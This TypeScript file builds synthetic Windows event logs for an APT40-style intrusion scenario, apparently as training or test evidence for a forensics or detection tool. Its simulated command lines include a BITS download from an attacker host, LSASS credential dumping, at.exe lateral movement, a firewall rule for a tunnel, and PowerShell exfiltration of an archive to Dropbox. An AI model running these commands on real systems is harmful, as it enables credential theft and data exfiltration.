/**
 * @module scripts/example/scenario
 * The example case: a small synthetic APT40-style intrusion (AA24-190A / FireEye 2019 playbook)
 * against CORP, written as Windows events. Every stage leaves the evidence the threat model
 * (shared/docs/threat-model.md §6) says it leaves; benign activity is mixed in. Times are UTC on
 * 2026-03-03, inside China Standard Time office hours (01:00–10:00 UTC).
 *
 * Hosts: WEB01 (IIS in the DMZ, Sysmon), FS01 (file server, Security auditing with command
 * lines, no Sysmon), DC01 (domain controller). Addresses are documentation ranges (RFC 5737).
 */
import type { BuilderEvent } from '../../test/utils/evtx-builder.js';

const SYSMON = { channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon' };
const SYSMON_GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';
const SECURITY = { channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing' };
const SECURITY_GUID = '{54849625-5478-4994-A5BA-3E3B0328C30D}';
const DAY = '2026-03-03';

export interface ExampleLog {
  /** File name under examples/apt40-case/evidence/windows/. */
  file: string;
  events: BuilderEvent[];
}

let guidSeq = 0x1000;
function guid(): string {
  guidSeq++;
  return `{9A3B${guidSeq.toString(16).toUpperCase().padStart(4, '0')}-5F1C-6401-2B00-00000000${(guidSeq % 256)
    .toString(16)
    .toUpperCase()
    .padStart(2, '0')}00}`;
}

interface Proc {
  image: string;
  cmd: string;
  pid: number;
  guid: string;
  user: string;
  integrity?: string;
  originalFileName?: string;
  description?: string;
  company?: string;
  product?: string;
  cwd?: string;
}

function proc(image: string, cmd: string, pid: number, user: string, extra: Partial<Proc> = {}): Proc {
  return { image, cmd, pid, guid: guid(), user, ...extra };
}

function fileName(path: string): string {
  return path.slice(path.lastIndexOf('\\') + 1);
}

class SysmonLog {
  events: BuilderEvent[] = [];
  private rec = 1000;
  constructor(readonly computer: string) {}

  private base(eventId: number, time: string, task: number): BuilderEvent {
    return {
      ...SYSMON,
      providerGuid: SYSMON_GUID,
      eventId,
      version: eventId === 1 ? 5 : 2,
      level: 4,
      task,
      opcode: 0,
      keywords: '0x8000000000000000',
      timestamp: `${DAY}T${time}Z`,
      computer: this.computer,
      recordId: this.rec++,
      userSid: 'S-1-5-18',
      processId: 2416,
      threadId: 3312,
      data: {},
    };
  }

  processCreate(time: string, child: Proc, parent: Proc): void {
    const e = this.base(1, time, 1);
    e.data = {
      RuleName: '-',
      UtcTime: `${DAY} ${time.slice(0, 12)}`,
      ProcessGuid: child.guid,
      ProcessId: child.pid,
      Image: child.image,
      FileVersion: '10.0.17763.1 (WinBuild.160101.0800)',
      Description: child.description ?? fileName(child.image),
      Product: child.product ?? 'Microsoft® Windows® Operating System',
      Company: child.company ?? 'Microsoft Corporation',
      OriginalFileName: child.originalFileName ?? fileName(child.image).toUpperCase(),
      CommandLine: child.cmd,
      CurrentDirectory: child.cwd ?? 'C:\\Windows\\system32\\',
      User: child.user,
      LogonGuid: '{9A3B0000-5F1C-6401-E703-000000000000}',
      LogonId: '0x3e7',
      TerminalSessionId: 0,
      IntegrityLevel: child.integrity ?? 'High',
      Hashes: 'SHA256=6F88FB88FFB0F1D5465C2826E5B4F523598B1B8378377C8378FFEBC171BAD18B',
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.cmd,
      ParentUser: parent.user,
    };
    this.events.push(e);
  }

  fileCreate(time: string, by: Proc, target: string): void {
    const e = this.base(11, time, 11);
    e.data = {
      RuleName: '-',
      UtcTime: `${DAY} ${time.slice(0, 12)}`,
      ProcessGuid: by.guid,
      ProcessId: by.pid,
      Image: by.image,
      TargetFilename: target,
      CreationUtcTime: `${DAY} ${time.slice(0, 12)}`,
      User: by.user,
    };
    this.events.push(e);
  }

  processAccess(time: string, source: Proc, target: Proc, access: string): void {
    const e = this.base(10, time, 10);
    e.data = {
      RuleName: '-',
      UtcTime: `${DAY} ${time.slice(0, 12)}`,
      SourceProcessGUID: source.guid,
      SourceProcessId: source.pid,
      SourceThreadId: 4412,
      SourceImage: source.image,
      TargetProcessGUID: target.guid,
      TargetProcessId: target.pid,
      TargetImage: target.image,
      GrantedAccess: access,
      CallTrace:
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2030e|UNKNOWN(00000000002A1B3C)',
      SourceUser: source.user,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    };
    this.events.push(e);
  }

  dnsQuery(time: string, by: Proc, name: string, result: string): void {
    const e = this.base(22, time, 22);
    e.data = {
      RuleName: '-',
      UtcTime: `${DAY} ${time.slice(0, 12)}`,
      ProcessGuid: by.guid,
      ProcessId: by.pid,
      QueryName: name,
      QueryStatus: '0',
      QueryResults: `::ffff:${result};`,
      Image: by.image,
      User: by.user,
    };
    this.events.push(e);
  }

  networkConnect(time: string, by: Proc, src: string, dst: string, dstHost: string, port: number): void {
    const e = this.base(3, time, 3);
    e.data = {
      RuleName: '-',
      UtcTime: `${DAY} ${time.slice(0, 12)}`,
      ProcessGuid: by.guid,
      ProcessId: by.pid,
      Image: by.image,
      User: by.user,
      Protocol: 'tcp',
      Initiated: true,
      SourceIsIpv6: false,
      SourceIp: src,
      SourceHostname: `${this.computer}`,
      SourcePort: 49822,
      SourcePortName: '-',
      DestinationIsIpv6: false,
      DestinationIp: dst,
      DestinationHostname: dstHost,
      DestinationPort: port,
      DestinationPortName: port === 443 ? 'https' : '-',
    };
    this.events.push(e);
  }
}

class SecurityLog {
  events: BuilderEvent[] = [];
  private rec = 52000;
  constructor(readonly computer: string) {}

  add(eventId: number, time: string, task: number, data: BuilderEvent['data']): void {
    this.events.push({
      ...SECURITY,
      providerGuid: SECURITY_GUID,
      eventId,
      version: eventId === 4688 ? 2 : 0,
      level: 0,
      task,
      opcode: 0,
      keywords: '0x8020000000000000',
      timestamp: `${DAY}T${time}Z`,
      computer: this.computer,
      recordId: this.rec++,
      processId: 4,
      threadId: 5120,
      data,
    });
  }

  processCreate(
    time: string,
    image: string,
    cmd: string,
    pid: number,
    parent: string,
    parentPid: number,
  ): void {
    this.add(4688, time, 13312, {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'FS01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
      NewProcessId: `0x${pid.toString(16)}`,
      NewProcessName: image,
      TokenElevationType: '%%1936',
      ProcessId: `0x${parentPid.toString(16)}`,
      CommandLine: cmd,
      TargetUserSid: 'S-1-0-0',
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: '0x0',
      ParentProcessName: parent,
      MandatoryLabel: 'S-1-16-16384',
    });
  }
}

/** Build the case's logs. Deterministic: the same bytes every run. */
export function exampleLogs(): ExampleLog[] {
  guidSeq = 0x1000;
  const web = new SysmonLog('WEB01.corp.example');
  const iis = 'IIS APPPOOL\\DefaultAppPool';
  const sys = 'NT AUTHORITY\\SYSTEM';
  const w3wp = proc(
    'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
    3844,
    iis,
  );
  const services = proc(
    'C:\\Windows\\System32\\services.exe',
    'C:\\Windows\\system32\\services.exe',
    640,
    sys,
  );
  const explorer = proc('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 5012, 'CORP\\webadmin');

  // Benign background: the app pool compiles a page; an admin opens a browser; updates run.
  web.processCreate('00:58:02.114', w3wp, services);
  const csc = proc(
    'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe',
    '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\5f1a\\x1.cmdline"',
    4120,
    iis,
  );
  web.processCreate('00:59:40.501', csc, w3wp);
  const chrome = proc(
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
    6120,
    'CORP\\webadmin',
    { integrity: 'Medium', company: 'Google LLC', product: 'Google Chrome', description: 'Google Chrome' },
  );
  web.processCreate('01:02:11.930', chrome, explorer);
  web.dnsQuery('01:02:12.200', chrome, 'www.dropbox.com', '162.125.1.18');

  // Stage 1: exploitation drops a web shell disguised as an IIS error page (T1190, T1505.003).
  web.fileCreate('01:12:45.377', w3wp, 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error2.aspx');
  // Stage 2: the web shell runs commands (process tree w3wp -> cmd -> discovery; T1059.003, T1033, T1069, T1482).
  const cmd1 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 4480, iis, {
    cwd: 'c:\\windows\\system32\\inetsrv\\',
  });
  web.processCreate('01:14:03.021', cmd1, w3wp);
  web.processCreate(
    '01:14:03.090',
    proc('C:\\Windows\\System32\\whoami.exe', 'whoami  /all', 4492, iis),
    cmd1,
  );
  const cmd2 = proc(
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c net group "domain admins" /domain',
    4520,
    iis,
  );
  web.processCreate('01:15:22.610', cmd2, w3wp);
  web.processCreate(
    '01:15:22.700',
    proc('C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain', 4528, iis),
    cmd2,
  );
  const cmd3 = proc(
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c nltest /domain_trusts /all_trusts',
    4560,
    iis,
  );
  web.processCreate('01:16:40.002', cmd3, w3wp);
  web.processCreate(
    '01:16:40.090',
    proc('C:\\Windows\\System32\\nltest.exe', 'nltest  /domain_trusts /all_trusts', 4566, iis),
    cmd3,
  );
  // Stage 3: tools pulled in with BITS into C:\Windows\Debug (T1197, T1105).
  const cmd4 = proc(
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c bitsadmin /transfer wsus /download /priority high http://203.0.113.77/update.exe C:\\Windows\\Debug\\wsus.exe',
    4610,
    iis,
  );
  web.processCreate('01:20:05.444', cmd4, w3wp);
  const bits = proc(
    'C:\\Windows\\System32\\bitsadmin.exe',
    'bitsadmin  /transfer wsus /download /priority high http://203.0.113.77/update.exe C:\\Windows\\Debug\\wsus.exe',
    4618,
    iis,
  );
  web.processCreate('01:20:05.520', bits, cmd4);
  web.fileCreate(
    '01:20:09.118',
    proc(
      'C:\\Windows\\System32\\svchost.exe',
      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
      1088,
      sys,
    ),
    'C:\\Windows\\Debug\\wsus.exe',
  );
  // Stage 4: LSASS dumped with a renamed ProcDump (T1003.001).
  const dumper = proc(
    'C:\\Windows\\Debug\\wsus.exe',
    'C:\\Windows\\Debug\\wsus.exe -accepteula -ma lsass.exe C:\\Windows\\Debug\\ls.dmp',
    4702,
    sys,
    {
      originalFileName: 'procdump',
      description: 'Sysinternals process dump utility',
      company: 'Sysinternals - www.sysinternals.com',
      product: 'ProcDump',
    },
  );
  const lsass = proc('C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe', 652, sys);
  web.processCreate('01:25:31.800', dumper, cmd4);
  web.processAccess('01:25:32.011', dumper, lsass, '0x1fffff');
  web.fileCreate('01:25:34.950', dumper, 'C:\\Windows\\Debug\\ls.dmp');
  // Stage 5: lateral movement with at.exe to the file server (T1053.002).
  const cmd5 = proc(
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c at \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat',
    4750,
    iis,
  );
  web.processCreate('01:30:12.300', cmd5, w3wp);
  web.processCreate(
    '01:30:12.380',
    proc('C:\\Windows\\System32\\at.exe', 'at  \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat', 4756, iis),
    cmd5,
  );
  // Stage 8: staging and password-protected archiving in C:\Windows\Debug (T1074.001, T1560.001).
  const rar = proc(
    'C:\\Windows\\Debug\\rar.exe',
    'C:\\Windows\\Debug\\rar.exe a -hpNavy2026! -r C:\\Windows\\Debug\\out.rar \\\\FS01\\Projects\\UUV\\*',
    5010,
    sys,
    {
      originalFileName: 'Rar.exe',
      company: 'Alexander Roshal',
      product: 'WinRAR',
      description: 'Command line RAR',
    },
  );
  web.processCreate('02:40:18.000', rar, cmd4);
  web.fileCreate('02:44:51.210', rar, 'C:\\Windows\\Debug\\out.rar');
  // Stage 9: firewall opened on 9998 for an inbound tunnel (T1562.004), SSF tunnel (T1572).
  const netsh = proc(
    'C:\\Windows\\System32\\netsh.exe',
    'netsh  advfirewall firewall add rule name="Windows Update Service" dir=in action=allow protocol=TCP localport=9998',
    5102,
    sys,
  );
  web.processCreate('02:45:02.000', netsh, cmd4);
  const ssf = proc(
    'C:\\Windows\\Debug\\ssf.exe',
    'C:\\Windows\\Debug\\ssf.exe -D 9999 -p 443 198.51.100.23',
    5140,
    sys,
    {
      originalFileName: 'ssf.exe',
      company: '-',
      product: '-',
      description: '-',
    },
  );
  web.processCreate('02:50:44.000', ssf, cmd4);
  web.networkConnect('02:50:44.300', ssf, '10.10.5.20', '198.51.100.23', '-', 443);
  // Stage 10: exfiltration to Dropbox from PowerShell (T1567.002).
  const ps = proc(
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -c "Invoke-RestMethod -Uri https://content.dropboxapi.com/2/files/upload -Method Post -InFile C:\\Windows\\Debug\\out.rar -Headers $h"',
    5230,
    sys,
  );
  web.processCreate('03:10:00.000', ps, cmd4);
  web.dnsQuery('03:10:00.410', ps, 'content.dropboxapi.com', '162.125.6.14');
  web.networkConnect('03:10:00.600', ps, '10.10.5.20', '162.125.6.14', 'content.dropboxapi.com', 443);

  // FS01: no Sysmon; Security auditing with command lines (4688) and task creation (4698).
  const fs = new SecurityLog('FS01.corp.example');
  fs.add(4624, '01:30:12.900', 12544, {
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    SubjectDomainName: '-',
    SubjectLogonId: '0x0',
    TargetUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
    TargetUserName: 'svc_web',
    TargetDomainName: 'CORP',
    TargetLogonId: '0x5a3c1e',
    LogonType: 3,
    LogonProcessName: 'NtLmSsp ',
    AuthenticationPackageName: 'NTLM',
    WorkstationName: 'WEB01',
    LogonGuid: '{00000000-0000-0000-0000-000000000000}',
    TransmittedServices: '-',
    LmPackageName: 'NTLM V2',
    KeyLength: 128,
    ProcessId: '0x0',
    ProcessName: '-',
    IpAddress: '10.10.5.20',
    IpPort: '51122',
    ImpersonationLevel: '%%1833',
  });
  fs.add(4698, '01:30:13.100', 12804, {
    SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
    SubjectUserName: 'svc_web',
    SubjectDomainName: 'CORP',
    SubjectLogonId: '0x5a3c1e',
    TaskName: '\\At1',
    TaskContent:
      '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions Context="Author"><Exec><Command>C:\\Windows\\Debug\\svc.bat</Command></Exec></Actions></Task>',
  });
  fs.processCreate(
    '02:00:00.150',
    'C:\\Windows\\System32\\cmd.exe',
    'cmd /c C:\\Windows\\Debug\\svc.bat',
    0x1a2c,
    'C:\\Windows\\System32\\taskeng.exe',
    0x3f0,
  );
  fs.processCreate(
    '02:00:01.020',
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Debug\\m.dmp full',
    0x1a40,
    'C:\\Windows\\System32\\cmd.exe',
    0x1a2c,
  );
  fs.processCreate(
    '02:05:00.000',
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k LocalService',
    0x210,
    'C:\\Windows\\System32\\services.exe',
    0x280,
  );

  // DC01: Kerberoasting burst — RC4 service tickets for many SPNs from one account (T1558.003).
  const dc = new SecurityLog('DC01.corp.example');
  const spns = [
    'MSSQLSvc/sql01.corp.example:1433',
    'HTTP/intranet.corp.example',
    'CIFS/fs02.corp.example',
    'MSSQLSvc/bms01.corp.example:1433',
    'exchangeAB/ex01.corp.example',
    'HOST/backup01.corp.example',
    'SAP/erp01.corp.example',
    'FIMService/idm01.corp.example',
  ];
  spns.forEach((spn, i) => {
    dc.add(4769, `02:10:${String(10 + i * 3).padStart(2, '0')}.500`, 14337, {
      TargetUserName: 'svc_web@CORP.EXAMPLE',
      TargetDomainName: 'CORP.EXAMPLE',
      ServiceName:
        spn.split('/')[0] === 'MSSQLSvc' ? `svc_sql${i}` : `svc_${spn.split('/')[0]?.toLowerCase()}`,
      ServiceSid: `S-1-5-21-3623811015-3361044348-30300820-${1100 + i}`,
      TicketOptions: '0x40810000',
      TicketEncryptionType: '0x17',
      IpAddress: '::ffff:10.10.5.20',
      IpPort: String(50110 + i),
      Status: '0x0',
      LogonGuid: '{5C1A0F3E-7E36-9B2D-1C36-2E3A1D9C5B77}',
      TransmittedServices: '-',
    });
  });
  dc.add(4769, '02:30:00.000', 14337, {
    TargetUserName: 'webadmin@CORP.EXAMPLE',
    TargetDomainName: 'CORP.EXAMPLE',
    ServiceName: 'krbtgt',
    ServiceSid: 'S-1-5-21-3623811015-3361044348-30300820-502',
    TicketOptions: '0x60810010',
    TicketEncryptionType: '0x12',
    IpAddress: '::ffff:10.10.20.31',
    IpPort: '50200',
    Status: '0x0',
    LogonGuid: '{5C1A0F3E-7E36-9B2D-1C36-2E3A1D9C5B78}',
    TransmittedServices: '-',
  });

  // WEB01 BITS client: the job transferring from the attacker's host (T1197).
  const bitsLog: BuilderEvent[] = [
    {
      channel: 'Microsoft-Windows-Bits-Client/Operational',
      provider: 'Microsoft-Windows-Bits-Client',
      providerGuid: '{EF1CC15B-46C1-414E-BB95-E76B077BD51E}',
      eventId: 59,
      version: 1,
      level: 4,
      task: 0,
      opcode: 0,
      keywords: '0x4000000000000000',
      timestamp: `${DAY}T01:20:06.010Z`,
      computer: 'WEB01.corp.example',
      recordId: 311,
      userSid: 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415',
      processId: 1088,
      threadId: 2232,
      data: {
        transferId: '{6B9D1B2E-2F3A-4E7B-9C1D-0F2E3A4B5C6D}',
        name: 'wsus',
        Id: '{A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF}',
        url: 'http://203.0.113.77/update.exe',
        peer: '',
        fileTime: '2026-03-02T22:11:09.000000000Z',
        fileLength: 482304,
        bytesTotal: 482304,
        bytesTransferred: 0,
        bytesTransferredFromPeer: 0,
      },
    },
  ];

  return [
    { file: 'WEB01-Sysmon.evtx', events: web.events },
    { file: 'WEB01-Bits-Client.evtx', events: bitsLog },
    { file: 'FS01-Security.evtx', events: fs.events },
    { file: 'DC01-Security.evtx', events: dc.events },
  ];
}
